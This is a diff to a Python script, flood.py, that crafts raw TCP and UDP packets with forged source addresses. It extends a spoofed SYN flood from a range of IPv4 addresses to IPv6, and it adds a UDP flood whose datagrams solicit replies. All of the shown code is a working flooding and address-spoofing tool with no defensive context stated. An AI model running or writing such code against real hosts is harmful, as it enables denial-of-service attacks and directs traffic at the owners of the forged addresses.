@@ -1,16 +1,18 @@
 # SPDX-License-Identifier: Apache-2.0
-"""A program that only imports the standard library: TCP segments with forged sources.
+"""A program that only imports the standard library: packets with forged sources.
 
-flood.py many HOST PORT FIRST COUNT [SOURCE_PORT]  one SYN from each of COUNT IPv4 addresses
+flood.py many HOST PORT FIRST COUNT [SOURCE_PORT]  one SYN from each of COUNT addresses
+flood.py datagrams HOST PORT FIRST COUNT           the same of UDP
 flood.py one HOST PORT SOURCE PORT FLAGS NUMBER    one segment with these flags and this number
 """
 
 import socket
 import struct
 import sys
+from collections.abc import Callable
 
 SOURCE_PORT, SYN = 4000, 2
-TCP = socket.IPPROTO_TCP
+TCP, UDP = socket.IPPROTO_TCP, socket.IPPROTO_UDP
 
 
 def checksum(words: bytes) -> int:
@@ -28,21 +30,47 @@ def packet(
     def header(check: int) -> bytes:
         return struct.pack("!HHIIBBHHH", *ports, seq, 0, 5 << 4, flags, 64240, check, 0)
 
-    pseudo = source + destination + struct.pack("!HH", TCP, len(header(0)))
+    return carried(source, destination, TCP, header)
+
+
+def datagram(source: bytes, destination: bytes, ports: tuple[int, int]) -> bytes:
+    """One that asks for an answer."""
+
+    def header(check: int) -> bytes:
+        return struct.pack("!HHHH", *ports, 10, check) + b"?\n"
+
+    return carried(source, destination, UDP, header)
+
+
+def carried(
+    source: bytes, destination: bytes, protocol: int, header: Callable[[int], bytes]
+) -> bytes:
+    """``header`` returns all that follows the IP header, with this checksum."""
+    pseudo = source + destination + struct.pack("!HH", protocol, len(header(0)))
     if len(source) == 4:
-        ip = struct.pack("!BBHHHBBH", 4 << 4 | 5, 0, 0, 0, 0, 64, TCP, 0)
+        ip = struct.pack("!BBHHHBBH", 4 << 4 | 5, 0, 0, 0, 0, 64, protocol, 0)
     else:
-        ip = struct.pack("!IHBB", 6 << 28, len(header(0)), TCP, 64)
+        ip = struct.pack("!IHBB", 6 << 28, len(header(0)), protocol, 64)
     return ip + source + destination + header(checksum(pseudo + header(0)))
 
 
 def many(host: str, port: str, first: str, count: str, own: str = str(SOURCE_PORT)) -> None:
-    ports, destination = (int(own), int(port)), socket.inet_aton(host)
-    (start,) = struct.unpack("!I", socket.inet_aton(first))
-    with raw(socket.AF_INET) as sender:
+    ports = int(own), int(port)
+    flood(host, first, count, lambda *ends: packet(*ends, ports, SYN, 1000))
+
+
+def datagrams(host: str, port: str, first: str, count: str) -> None:
+    ports = SOURCE_PORT, int(port)
+    flood(host, first, count, lambda *ends: datagram(*ends, ports))
+
+
+def flood(host: str, first: str, count: str, make: Callable[[bytes, bytes], bytes]) -> None:
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    destination, source = (socket.inet_pton(family, address) for address in (host, first))
+    start, size = int.from_bytes(source, "big"), len(source)
+    with raw(family) as sender:
         for number in range(start, start + int(count)):
-            source = struct.pack("!I", number)
-            sender.sendto(packet(source, destination, ports, SYN, 1000), (host, 0))
+            sender.sendto(make(number.to_bytes(size, "big"), destination), (host, 0))
 
 
 def one(host: str, port: str, source: str, source_port: str, flags: str, number: str) -> None:
@@ -58,4 +86,4 @@ def raw(family: int) -> socket.socket:
 
 
 if __name__ == "__main__":
-    {"many": many, "one": one}[sys.argv[1]](*sys.argv[2:])
+    {"many": many, "datagrams": datagrams, "one": one}[sys.argv[1]](*sys.argv[2:])
